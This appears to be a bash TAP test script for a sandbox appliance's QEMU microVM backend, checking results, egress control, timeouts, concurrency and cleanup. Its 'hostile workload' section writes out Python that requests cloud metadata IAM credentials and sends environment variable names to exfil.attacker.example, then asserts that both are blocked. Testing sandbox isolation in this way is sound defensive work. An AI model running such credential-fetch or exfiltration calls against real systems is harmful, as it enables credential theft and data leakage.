#!/bin/bash
# tests/lab/microvm.sh - TAP: the `microvm` backend end to end. A whole
# appliance (`enclavectl lab up`) runs workloads in QEMU microVMs booted
# from the image contrib/microvm-image builds: a result, HTTPS to an
# allowed host, the seed's hostile workload with the exact audit sequence
# every backend gives, a timeout, two VMs at once, the tap and bridge in
# the session netns while one runs, and nothing left behind after.
#
# SKIPs (with the reason) without root, without qemu-system-x86_64 or
# without a built image (ENCLAVE_MICROVM_DIR, default
# /var/lib/enclave/microvm). ENCLAVE_SESSIOND overrides the daemon tested.
if [ -z "${BASH_VERSION:-}" ]; then exec bash "$0" "$@"; fi
set -u

here=$(cd "$(dirname "$0")" && pwd)
# shellcheck source=lib.sh
. "$here/lib.sh"
LAB_BACKEND=microvm

top_build=${abs_top_builddir:-$(cd "$here/../.." && pwd)}
top_src=${abs_top_srcdir:-$(cd "$here/../.." && pwd)}
CTL=$top_build/ctl/enclavectl
SESSIOND=${ENCLAVE_SESSIOND:-$top_build/sessiond/enclave-sessiond}
IMG=${ENCLAVE_MICROVM_DIR:-/var/lib/enclave/microvm}
export ENCLAVE_BUILDDIR=$top_build
export ENCLAVE_SESSIOND=$SESSIOND
export ENCLAVE_LAB_SCRIPT=$top_src/ctl/enclave-lab

lab_preflight
if ! command -v qemu-system-x86_64 >/dev/null 2>&1; then
	tap_skip_all "qemu-system-x86_64 not installed (qemu-system-x86)"
	exit 0
fi
if [ ! -r "$IMG/vmlinux" ] || [ ! -r "$IMG/initramfs.cpio" ]; then
	tap_skip_all "no microVM image in $IMG: run contrib/microvm-image"
	exit 0
fi
for f in "$CTL" "$SESSIOND"; do
	if [ ! -x "$f" ]; then
		echo "1..1"
		echo "not ok 1 - $f built (make check builds it)"
		exit 1
	fi
done
tap_plan 21

NAME=m$(od -An -N3 -tx1 /dev/urandom | tr -d ' \n')
T=$(mktemp -d /tmp/enclave-microvm-test.XXXXXX)
cleanup() {
	"$CTL" lab down "$NAME" >/dev/null 2>&1
	rm -rf -- "$T"
}
trap cleanup EXIT
trap 'exit 130' INT TERM HUP

printf 'backend microvm image_dir %s\n' "$IMG" >"$T/extra.conf"
if ! "$CTL" lab up --name "$NAME" --sessiond-conf-extra "$T/extra.conf" \
	>"$T/up.out" 2>"$T/up.err"; then
	tap_diag "$(tail -20 "$T/up.err")"
	tap_bail "enclavectl lab up failed"
fi
val() { sed -n "s/^$1=//p" "$T/up.out"; }
S=$(val ENCLAVE_SOCKET)
D=$(val ENCLAVE_LAB_DIR)
tap_check "lab up prints the socket and lab dir" test -S "$S" -a -d "$D"

# Our sessiond's child processes that are QEMU: none once sessions end.
sessiond_pid() { sed -n 's/.*sessiond pid \([0-9]*\).*/\1/p' "$T/up.err" | tail -1; }
qemus() {
	local p ppid comm n=0 sd
	sd=$(sessiond_pid)
	for p in /proc/[0-9]*; do
		read -r comm 2>/dev/null <"$p/comm" || continue
		case $comm in qemu-system-*) ;; *) continue ;; esac
		ppid=$(awk '{ s = $0; sub(/.*\) /, "", s); split(s, f, " "); print f[2] }' "$p/stat" 2>/dev/null)
		[ "$ppid" = "$sd" ] && n=$((n + 1))
	done
	echo "$n"
}
cgroups() { find /sys/fs/cgroup -maxdepth 8 -type d -name "enclave-$NAME-*" 2>/dev/null | wc -l; }

api GET /v1/backends >/dev/null
is "microvm is listed and available" "True" \
	"$(js '[b["available"] for b in d["backends"] if b["name"]=="microvm"][0]')"
tap_diag "microvm: $(js '[b["isolation"] for b in d["backends"] if b["name"]=="microvm"][0]')"
tap_diag "firecracker: $(js '[str(b["available"]) + " " + str(b["reason"]) for b in d["backends"] if b["name"]=="firecracker"][0]' 2>/dev/null)"

# --- a result -----------------------------------------------------------------
run python 'import enclave, os
print("hello from", os.uname().release)
enclave.result({"n": 42, "kernel": os.uname().release})'
is "a python session on microvm: 201, succeeded, exit 0" "201 succeeded 0" \
	"$(cat "$T/status") $(js 'd["phase"]' "$T/last") $(js 'd["exit_code"]' "$T/last")"
is "its result is the workload's JSON" 42 "$(js 'd["result"]["n"]' "$T/last")"
GUEST_K=$(js 'd["result"]["kernel"]' "$T/last")
tap_check "it ran on the guest's own kernel ($GUEST_K), not the host's ($(uname -r))" \
	test -n "$GUEST_K" -a "$GUEST_K" != "$(uname -r)"
is "stdout is captured" "hello from $GUEST_K" "$(js 'd["stdout"].strip()' "$T/last")"
tap_check "usage: cpu, wall and peak memory of the VM" \
	test "$(js 'int(d["usage"]["cpu_ms"] > 0 and d["usage"]["wall_ms"] > 0 and d["usage"]["mem_peak_bytes"] > 0)' "$T/last")" = 1
OK_ID=$(js 'd["id"]' "$T/last")
is "its audit: created, started, result, exited, metered" \
	"session_created,sandbox_started,result_collected,workload_exited,usage_metered" "$(types "$OK_ID")"
BOOT=$(grep -o "microvm: $NAME-$OK_ID: booted in .*" "$D/sessiond.log" | head -1)
tap_check "the boot time is logged" test -n "$BOOT"
tap_diag "$BOOT"

# --- allowed egress ---------------------------------------------------------
run python 'import enclave, hashlib, ssl, urllib.request
ctx = ssl._create_unverified_context()
r = urllib.request.urlopen("https://allowed.test/", context=ctx)
data = r.read()
print(r.status)
enclave.result({"sha256": hashlib.sha256(data).hexdigest()})'
is "HTTPS to allowed.test from the VM: 200" "succeeded 200" \
	"$(js 'd["phase"]' "$T/last") $(js 'd["stdout"].strip()' "$T/last")"
want=$(printf 'hello from allowed.test\n' | sha256sum | cut -d' ' -f1)
is "... and its content's hash comes back as the result" "$want" "$(js 'd["result"]["sha256"]' "$T/last")"
api GET "/v1/sessions/$(js 'd["id"]' "$T/last")/audit" >/dev/null
is "... audited as egress_allowed (DNS, TLS)" "allowed.test:dns allowed.test:tls" \
	"$(js '" ".join(sorted(set("%s:%s" % (e["data"]["host"], e["data"]["proto"]) for e in d["events"] if e["type"]=="egress_allowed")))')"

# --- the seed's hostile workload ---------------------------------------------
cat >"$T/hostile.py" <<'EOF'
import enclave
import os, json, urllib.request

try:
    urllib.request.urlopen("http://169.254.169.254/latest/meta-data/iam/security-credentials/")
except Exception as e:
    print("metadata fetch blocked:", e)

try:
    urllib.request.urlopen("http://exfil.attacker.example/exfil?dump=" + ",".join(os.environ.keys()))
except Exception as e:
    print("exfil blocked:", e)

enclave.result({"egressAttempted": True})
EOF
run python "$(cat "$T/hostile.py")"
H_ID=$(js 'd["id"]' "$T/last")
is "hostile workload: succeeded, with its result" "succeeded True" \
	"$(js 'd["phase"]' "$T/last") $(js 'd["result"]["egressAttempted"]' "$T/last")"
is "hostile workload: the exact audit type sequence" \
	"session_created,sandbox_started,egress_denied,egress_denied,result_collected,workload_exited,usage_metered" \
	"$(types "$H_ID")"
is "denied: the metadata IP (blocked_range) and the exfil host (DNS)" \
	"169.254.169.254:blocked_range:http exfil.attacker.example:not_allowlisted:dns" \
	"$(js '" ".join("%s:%s:%s" % (e["data"]["host"], e["data"]["reason"], e["data"]["proto"]) for e in d["events"] if e["type"]=="egress_denied")')"

# --- a timeout ------------------------------------------------------------------
start=$(date +%s%N)
run sh 'sleep 60' '{"timeout_ms": 8000}'
el=$((($(date +%s%N) - start) / 1000000))
is "timeout: timed_out, killed by SIGKILL" "timed_out 9" \
	"$(js 'd["phase"]' "$T/last") $(js 'd["signal"]' "$T/last")"
tap_check "timeout: answered within 15 s ($el ms)" test "$el" -lt 15000

# --- two at once ----------------------------------------------------------------
REQ=$T/req2 body sh 'echo one; enclave-result "{\"vm\": 1}"'
REQ=$T/req3 body sh 'echo two; enclave-result "{\"vm\": 2}"'
curl -s --max-time 90 --unix-socket "$S" -X POST --data-binary "@$T/req2" http://sessiond/v1/sessions >"$T/r2" &
p2=$!
curl -s --max-time 90 --unix-socket "$S" -X POST --data-binary "@$T/req3" http://sessiond/v1/sessions >"$T/r3" &
p3=$!
wait "$p2" "$p3"
is "two VMs at once, each its own tap and bridge: both succeed" "succeeded 1 succeeded 2" \
	"$(js 'd["phase"]' "$T/r2") $(js 'd["result"]["vm"]' "$T/r2") $(js 'd["phase"]' "$T/r3") $(js 'd["result"]["vm"]' "$T/r3")"

# --- the network while one runs, and DELETE ------------------------------------
run sh 'sleep 60' '' '{"wait": false}'
R_ID=$(js 'd["id"]' "$T/last")
SNS=$(ip netns list | awk -v p="${NAME}s" 'index($1, p) == 1 { print $1 }' | head -1)
net=""
if [ -n "$SNS" ]; then
	net="$(ip -n "$SNS" -o link show master br0 2>/dev/null | awk -F': ' '{ print $2 }' | sed 's/@.*//' | sort | tr '\n' ' ')"
	net="$net| eth0 v4: $(ip -n "$SNS" -o -4 addr show dev eth0 2>/dev/null | wc -l)"
fi
is "while it runs: br0 holds eth0 and tap0, eth0 has no address (the guest has it)" \
	"eth0 tap0 | eth0 v4: 0" "$net"
is "DELETE of a running VM: 204" 204 "$(api DELETE "/v1/sessions/$R_ID")"

# --- nothing left -----------------------------------------------------------------
sleep 0.5
left="qemu:$(qemus) netns:$(ip netns list | awk -v p="${NAME}s" 'index($1, p) == 1' | wc -l)"
left="$left rundirs:$(find "$D/state/run" -mindepth 1 -maxdepth 1 2>/dev/null | wc -l)"
left="$left cgroups:$(cgroups)"
is "nothing left: no QEMU, no session netns (tap, bridge), no run dir, no cgroup" \
	"qemu:0 netns:0 rundirs:0 cgroups:0" "$left"

tap_done
